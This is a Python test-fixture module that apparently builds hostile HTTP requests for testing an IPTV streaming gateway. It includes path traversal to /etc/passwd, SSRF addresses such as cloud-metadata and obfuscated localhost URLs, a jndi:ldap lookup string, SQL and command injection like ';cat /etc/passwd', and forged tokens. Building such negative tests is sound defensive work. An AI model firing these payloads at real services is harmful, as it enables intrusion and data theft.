"""What somebody who means harm sends: requests as they go over the wire, byte for byte.

A table of families; each makes its own from what a door expects. Nothing of it may be answered with a 5xx,
say where a source is, or have anything fetched.
"""

import base64
from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Known:
    """What an attacker has seen: a channel, and tickets of a segment, a nested playlist and a key."""

    channel: str
    segment: str
    nested: str
    key: str
    foreign: str
    """A ticket of another cluster."""
    canary: str
    """host:port of a server that nobody may ever be led to."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """One request: its target and headers go out as they are."""

    name: str
    target: bytes
    headers: bytes = b""
    method: bytes = b"GET"
    body: bytes = b""

    def wire(self) -> bytes:
        """Return it as it is sent."""
        length = b"Content-Length: %d\r\n" % len(self.body) if self.body else b""
        host = b"" if b"Host:" in self.headers else b"Host: gateway\r\n"
        head = b"%b %b HTTP/1.1\r\n" % (self.method, self.target)
        return head + host + b"Connection: close\r\n" + length + self.headers + b"\r\n" + self.body


OUTSIDE = (
    "http://{canary}/x",
    "//{canary}/x",
    "http:%2F%2F{canary}%2Fx",
    "http%3A%2F%2F{canary}%2Fx",
    "https://{canary}/x.ts",
    "file:///etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "../../etc/passwd",
    "..\\..\\etc\\passwd",
    "....//....//etc/passwd",
    "%c0%ae%c0%ae/etc/passwd",
    "%00",
    "a%00.m3u8",
    "%0d%0aX-Injected:%201",
    "%E0%A4%A",
    "%ff%fe",
    "%F0%9F%92%A9",
    "gopher://{canary}/_x",
    "data:text/plain,x",
    "localhost",
    "169.254.169.254/latest/meta-data",
    "%7B%7B7*7%7D%7D",
    "$%7Bjndi:ldap://{canary}/a%7D",
    "<script>alert(1)</script>",
    "'%20OR%20'1'='1",
    ";cat%20/etc/passwd",
    "|id",
    "`id`",
    "x" * 6000,
    "a/" * 800,
    "%" * 400,
)
"""What is put where a name, a ticket or a word is expected."""

DOORS = ("/stream/{}", "/stream/{}.m3u8", "/content/{}", "/content/{}.ts", "/key/{}.key", "/logo/{}",
         "/api/channels/{}", "/auto/v{}", "/live/u/p/{}", "/t/{}/stream/x.m3u8", "/api/search?q={}",
         "/playlist.m3u8?group={}", "/lineup.json?ids={}", "/_event/?EIO=4&transport=polling&sid={}")  # fmt: skip  # noqa: E501


def _addresses(known: Known) -> Iterator[Hostile]:
    for number, said in enumerate(OUTSIDE):
        filled = said.replace("{canary}", known.canary).encode("latin-1").replace(b" ", b"%20")
        for door in (DOORS[number % len(DOORS)], DOORS[(number + 5) % len(DOORS)]):
            head, _, tail = door.encode().partition(b"{}")
            yield Hostile(f"address {number} at {door}", head + filled + tail)


def _tickets(known: Known) -> Iterator[Hostile]:
    good = known.segment
    raw = base64.urlsafe_b64decode(good + "=" * (-len(good) % 4))
    forged = {
        "cut": good[:-4],
        "cut to a letter": good[:1],
        "longer": good + "AAAA",
        "padded": good + "==",
        "upper case": good.upper(),
        "reversed": good[::-1],
        "twice": good + good,
        "encoded": "".join(f"%{ord(each):02X}" for each in good),
        "encoded twice": "".join(f"%25{ord(each):02X}" for each in good[:40]),
        "with a slash": good[:20] + "/" + good[20:],
        "with a dot": good[:20] + "." + good[20:],
        "with white space": good[:20] + "%20" + good[20:],
        "with a zero": good + "%00",
        "of another cluster": known.foreign,
        "plain text": base64.urlsafe_b64encode(
            f"s\na\n0\n\n1\n-1\n\n0\nhttp://{known.canary}/x".encode()
        ).decode().rstrip("="),
        "an address": base64.urlsafe_b64encode(f"http://{known.canary}/x".encode()).decode().rstrip("="),
        "nothing": "",
        "zeros": "A" * 64,
        "short": "AA",
        "very long": "A" * 60_000,
        "a key": known.key,
        "a playlist": known.nested,
    }  # fmt: skip
    for at in range(0, len(raw), max(1, len(raw) // 20)):
        flipped = raw[:at] + bytes([raw[at] ^ 1]) + raw[at + 1 :]
        forged[f"bit at {at}"] = base64.urlsafe_b64encode(flipped).decode().rstrip("=")
    for name, sealed in forged.items():
        yield Hostile(f"ticket: {name}", f"/content/{sealed}.ts".encode())
        if name in ("a playlist", "of another cluster", "cut", "plain text", "very long"):
            yield Hostile(f"ticket as a key: {name}", f"/key/{sealed}.key".encode())
    for tail in (
        "/../../x.ts",
        "/a/b/c.ts",
        "/$Number$.ts",
        "/..%2f.ts",
        ".ts/../../health/detailed",
        ".%6d3u8",
    ):
        yield Hostile(f"ticket, then {tail}", f"/content/{good}{tail}".encode())
    yield Hostile("a segment as a key", f"/key/{good}.key".encode())


HEADERS = (
    b"Host: {canary}\r\n",
    b"Host: a\r\nHost: b\r\n",
    b"Host: a b\r\n",
    b"Host: <script>\r\n",
    b"Host: \xff\xfe\r\n",
    b"Host: [::1\r\n",
    b"X-Forwarded-Host: {canary}\r\n",
    b"X-Forwarded-Host: a\"b'c<d>\r\n",
    b"X-Forwarded-For: 127.0.0.1\r\n",
    b"X-Forwarded-For: , , ,\r\n",
    b"X-Forwarded-For: unknown, _hidden, [::1]:80\r\n",
    b"X-Forwarded-For: " + b"1.1.1.1, " * 700 + b"\r\n",
    b"X-Forwarded-Proto: javascript\r\n",
    b"Forwarded: for=127.0.0.1;host={canary}\r\n",
    b"X-Original-URL: /metrics\r\nX-Rewrite-URL: /metrics\r\n",
    b"Range: bytes=0-18446744073709551616\r\n",
    b"Range: bytes=-99999999999999999999\r\n",
    b"Range: bytes=5-1\r\n",
    b"Range: bytes=" + b"0-1," * 1200 + b"2-3\r\n",
    b"Range: bytes=\xb2-\xb3\r\n",
    b"Range: bytes=0-" + b"9" * 5000 + b"\r\n",
    b"Range: lines=1-2\r\n",
    b"If-None-Match: " + b"W/" * 2000 + b"\r\n",
    b"If-Modified-Since: never\r\n",
    b"Accept-Encoding: " + b"gzip;q=nan, br;q=inf, " * 60 + b"\r\n",
    b"Accept: " + b"*/*, " * 800 + b"\r\n",
    b"Cookie: iptv_token=\x00\x01\r\n",
    b"Cookie: iptv_token=" + b"a" * 7000 + b"\r\n",
    b"Cookie: " + b"iptv_token=a; " * 400 + b"\r\n",
    b"Authorization: Bearer " + b"a" * 7000 + b"\r\n",
    b"Authorization: Bearer \xff\xfe\r\n",
    b"Authorization: Basic !!!!\r\n",
    b"Authorization: Negotiate\r\n",
    b"X-Request-ID: a\tb<script>\r\n",
    b"X-Request-ID: " + b"z" * 5000 + b"\r\n",
    b"X-Probe: 1\r\n",
    b"X-Hash-By: /etc/passwd\r\n",
    b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n",
    b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x\r\n",
    b"Transfer-Encoding: identity\r\n",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n",
    b"Expect: 100-continue\r\n",
    b"TE: trailers, deflate\r\nTrailer: X\r\n",
    b"Proxy: http://{canary}\r\n",
    b"Origin: null\r\n",
    b"Access-Control-Request-Method: PUT\r\nAccess-Control-Request-Headers: x\ty\r\n",
    b" folded: yes\r\n",
    b"No colon here\r\n",
    b"Bad\x00Name: x\r\n",
)


def _headers(known: Known) -> Iterator[Hostile]:
    paths = (
        f"/stream/{known.channel}.m3u8",
        f"/content/{known.segment}.ts",
        "/playlist.m3u8",
        "/api/channels",
    )
    for number, said in enumerate(HEADERS):
        path = paths[1] if said.startswith((b"Range", b"If-")) else paths[number % len(paths)]
        yield Hostile(
            f"header {number} at {path[:12]}", path.encode(), said.replace(b"{canary}", known.canary.encode())
        )


QUERIES = (
    "/api/channels?limit=-1", "/api/channels?limit=999999999999999999999", "/api/channels?limit=nan",
    "/api/channels?cursor=%00", "/api/channels?cursor=99999999999999999999", "/api/channels?cursor=-1",
    "/api/channels?q=" + "a" * 5000, "/api/channels?q=%F0%9F%92%A9", "/api/channels?q=%ff", "/api/search?q=",
    "/api/search?q=" + "%28" * 1000, "/api/search?q=a&limit=0", "/api/search?q=a&q=b", "/api/search",
    "/api/events?from=x", "/api/events?from=0001-01-01T00:00:00Z", "/api/events?to=9999-12-31T23:59:59Z",
    "/api/events?from=1e400", "/api/guide?from=9999-12-31T23:59:59Z", "/api/guide?from=0001-01-01T00:00:00%2B14:00",  # noqa: E501
    "/api/guide?limit=-5", "/api/now?ids=" + "a," * 2500, "/epg.xml?ids=" + "%2C" * 900, "/epg.xml?group=%00",
    "/playlist.m3u8?token=%00", "/playlist.m3u8?token=" + "t" * 6000, "/playlist.m3u8?a=1&" + "b=2&" * 900,
    "/player_api.php?username=a&password=%00&action=get_live_streams", "/player_api.php?action=__class__",
    "/player_api.php?username=a&password=b&action=get_short_epg&stream_id=99999999999999&limit=x",
    "/get.php?username=%0d%0a&password=%22%3E&type=m3u_plus", "/xmltv.php?username=&password=",
    "/stream/{channel}.m3u8?_HLS_msn=99999999999999999999", "/stream/{channel}.m3u8?_HLS_msn=-1",
    "/stream/{channel}.m3u8?_HLS_msn=abc&_HLS_part=x", "/stream/{channel}.m3u8?_HLS_part=1",
    "/stream/{channel}.m3u8?_HLS_skip=" + "v" * 3000, "/stream/{channel}.exe", "/stream/{channel}.m3u8/../../metrics",  # noqa: E501
    "/_event/?EIO=99&transport=polling", "/_event/?EIO=4&transport=carrier-pigeon", "/_event/?EIO=4",
    "/_event/?transport=websocket&EIO=4&sid=x", "/socket.io/?EIO=4&transport=polling&j=%00", "/t/", "/t//x", "/t/x/t/y/metrics",  # noqa: E501
)  # fmt: skip


def _queries(known: Known) -> Iterator[Hostile]:
    for said in QUERIES:
        yield Hostile(f"query {said[:48]}", said.replace("{channel}", known.channel).encode())


def _methods(known: Known) -> Iterator[Hostile]:
    stream = f"/stream/{known.channel}.m3u8".encode()
    for method in (b"PUT", b"DELETE", b"PATCH", b"TRACE", b"CONNECT", b"PROPFIND", b"FOO", b"POST"):
        yield Hostile(f"method {method.decode()}", stream, method=method)
    yield Hostile("an absolute target", b"http://%b/x" % known.canary.encode())
    yield Hostile("a target of another host", b"//%b/x" % known.canary.encode())
    yield Hostile("CONNECT elsewhere", known.canary.encode(), method=b"CONNECT")
    login = b"/api/login"
    as_json = b"Content-Type: application/json\r\n"
    as_form = b"Content-Type: application/x-www-form-urlencoded\r\n"
    for name, head, body in (
        ("deep JSON", as_json, b"[" * 4000),
        ("a long number", as_json, b'{"token": ' + b"9" * 4000 + b"}"),
        ("a lone surrogate", as_json, b'{"token": "\\ud800"}'),
        ("a zero", as_json, b'{"token": "\\u0000"}'),
        ("not UTF-8", as_json, b'{"token": "\xff"}'),
        ("a form that is none", as_form, b"&&&=&="),
        ("a form not UTF-8", as_form, b"token=%ff%fe\xff"),
        ("too large", as_json, b"x" * 200_000),
        ("no type", b"", b"token"),
        ("a strange type", b"Content-Type: \xff/;;;\r\n", b"token"),
    ):
        yield Hostile(f"login: {name}", login, head, b"POST", body)
    yield Hostile("panel: a form of commas", b"/player_api.php", as_form, b"POST", b"a=b&" * 4000)
    yield Hostile(
        "a poll that is none", b"/_event/?EIO=4&transport=polling&sid=none", b"", b"POST", b"\xff" * 100
    )
    yield Hostile("lineup.post", b"/lineup.post?scan=%00", b"", b"POST", b"x")


def all_of(known: Known) -> list[Hostile]:
    """Return the whole table."""
    families = (_addresses, _tickets, _headers, _queries, _methods)
    return [one for family in families for one in family(known)]


LEADING_INSIDE = (
    "http://127.0.0.1:{port}/x.m3u8", "http://localhost:{port}/x.m3u8", "http://LOCALHOST:{port}/x.m3u8",
    "http://localhost.:{port}/x.m3u8", "http://127.1:{port}/x.m3u8", "http://2130706433:{port}/x.m3u8",
    "http://0x7f000001:{port}/x.m3u8", "http://0177.0.0.1:{port}/x.m3u8", "http://0x7f.1:{port}/x.m3u8",
    "http://127.0.0.1.:{port}/x.m3u8", "http://0:{port}/x.m3u8", "http://0.0.0.0:{port}/x.m3u8",
    "http://[::1]:{port}/x.m3u8", "http://[::]:{port}/x.m3u8", "http://[::ffff:127.0.0.1]:{port}/x.m3u8",
    "http://[::ffff:7f00:1]:{port}/x.m3u8", "http://[::127.0.0.1]:{port}/x.m3u8",
    "http://[64:ff9b::7f00:1]:{port}/x.m3u8", "http://[64:ff9b:1:7f00:0:100::]:{port}/x.m3u8",
    "http://[2002:7f00:1::]:{port}/x.m3u8", "http://[2001:0:7f00:1::80ff:fffe]:{port}/x.m3u8",
    "http://[fe80::5efe:7f00:1]:{port}/x.m3u8", "http://[2001:db8::5efe:7f00:1]:{port}/x.m3u8",
    "http://[fe80::1%25lo]:{port}/x.m3u8", "http://[fec0::1]/x.m3u8", "http://[fd00::1]/x.m3u8",
    "http://10.0.0.1/x.m3u8", "http://172.16.0.1/x.m3u8", "http://192.168.1.1/x.m3u8",
    "http://100.64.0.1/x.m3u8",
    "http://169.254.169.254/latest/meta-data", "http://100.100.100.200/x.m3u8",
    "http://[fd00:ec2::254]/x.m3u8",
    "http://224.0.0.1/x.m3u8", "http://240.0.0.1/x.m3u8", "http://255.255.255.255/x.m3u8",
    "http://192.0.0.192/x",
    "http://user@127.0.0.1:{port}/x.m3u8", "http://example.com@127.0.0.1:{port}/x.m3u8",
    "http://127.0.0.1:{port}#@example.com/x.m3u8", "http://127.0.0.1:99999/x.m3u8", "http://[::1/x.m3u8",
    "file:///etc/passwd", "gopher://127.0.0.1:{port}/x", "ftp://127.0.0.1:{port}/x",
    "http:///x.m3u8", "http://:80/x",
    "http://\uff11\uff12\uff17.0.0.1:{port}/x.m3u8", "http://127\uff0e0\uff0e0\uff0e1:{port}/x.m3u8",
    "http://127\u20240\u20240\u20241:{port}/x.m3u8", "http://127.0.0.1\xad:{port}/x.m3u8",
    "http://\u246027.0.0.1:{port}/x.m3u8", "http://\uff11\uff16\uff19.254.169.254/x",
    "http://\uff4c\uff4f\uff43\uff41\uff4c\uff48\uff4f\uff53\uff54:{port}/x.m3u8", "http://\u24dbocalhost:{port}/x.m3u8",
    "http://local\u200bhost:{port}/x.m3u8",
    "http://127.0.0.1\0.example.com:{port}/x.m3u8", "http://127.0.0.1\x7f.example.com:{port}/x.m3u8",
    "http://cdn..example/x.m3u8", "http://.example/x.m3u8", "http://cdn\u2025example/x.m3u8",
    "http://" + "a" * 64 + ".example/x.m3u8", "http://" + "ä" * 60 + ".example/x.m3u8",
    "http://" + "a." * 150 + "example/x.m3u8",
)  # fmt: skip
"""Streams of a source that may not lead inside, and names that are none.

None may cost the canary a connection.
"""

NAMED_INSIDE = (
    "http://printer.local/x",
    "http://printer.\uff4cocal/x",
    "http://printer/x",
    "http://metadata.google.internal/x",
    "http://\uff4detadata.google.internal/x",
)
"""More of them for where a proxy resolves, and so names alone are judged."""
